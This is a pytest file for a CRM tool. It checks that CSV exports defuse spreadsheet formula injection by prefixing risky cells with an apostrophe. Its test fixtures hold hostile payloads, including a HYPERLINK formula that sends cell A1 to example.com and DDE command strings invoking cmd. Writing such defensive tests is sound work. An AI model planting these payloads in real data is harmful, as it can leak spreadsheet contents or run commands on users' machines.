"""CSV formula injection: a cell a spreadsheet would run is written as text.

Anyone who can add a record (an import, a pull request) can name a partner
``=HYPERLINK(...)``; opened in a spreadsheet, the export would run it. Every CSV crm
writes prefixes such a cell with an apostrophe; ``crm export csv --raw`` writes the
values exactly, for programs.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import write

from crmfiles.csvsafe import defuse

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://example.com/?"&A1,"click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def crm(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "crmfiles", *args],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def hostile(repo: Path) -> Path:
    for key, name in HOSTILE.items():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        write(repo, {f"partners/{key}.yaml": f'id: {key}\nname: "{quoted}"\nroles: [customer]\n'})
    return repo


def names_in(text: str) -> dict[str, str]:
    return {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}


def test_export_defuses_formulas(hostile: Path) -> None:
    proc = crm(hostile, "export", "csv")
    assert proc.returncode == 0, proc.stderr
    names = names_in((hostile / "crm-export" / "partners.csv").read_text())
    for key, name in HOSTILE.items():
        assert names[key] == "'" + name
    assert not names["acme"].startswith("'")


def test_export_raw_keeps_values_exactly(hostile: Path) -> None:
    proc = crm(hostile, "export", "csv", "--type", "partners", "--raw")
    assert proc.returncode == 0, proc.stderr
    names = names_in(proc.stdout)
    assert {k: names[k] for k in HOSTILE} == HOSTILE


def test_the_stdout_export_is_defused_too(hostile: Path) -> None:
    names = names_in(crm(hostile, "export", "csv", "--type", "partners").stdout)
    assert names["plus"] == "'+1+1"


def test_list_csv_defuses_an_opportunity_name(repo: Path) -> None:
    path = next(repo.glob("opportunities/**/acme-forklifts.yaml"))
    path.write_text(path.read_text().replace("name: Acme forklifts", "name: '=1+1'"))
    proc = crm(repo, "list", "opportunities", "--format", "csv", "--columns", "id,name,amount")
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert rows[0]["name"] == "'=1+1"
    assert rows[0]["amount"] == "30000.00"


@pytest.mark.parametrize("number", ["-12.50", "+3", "-1e5", "0", "30000.00"])
def test_numbers_are_left_alone(number: str) -> None:
    assert defuse(number) == number


@pytest.mark.parametrize("text", ["Acme", "a=b", "", "'quoted", "e-mail"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert defuse(text) == text
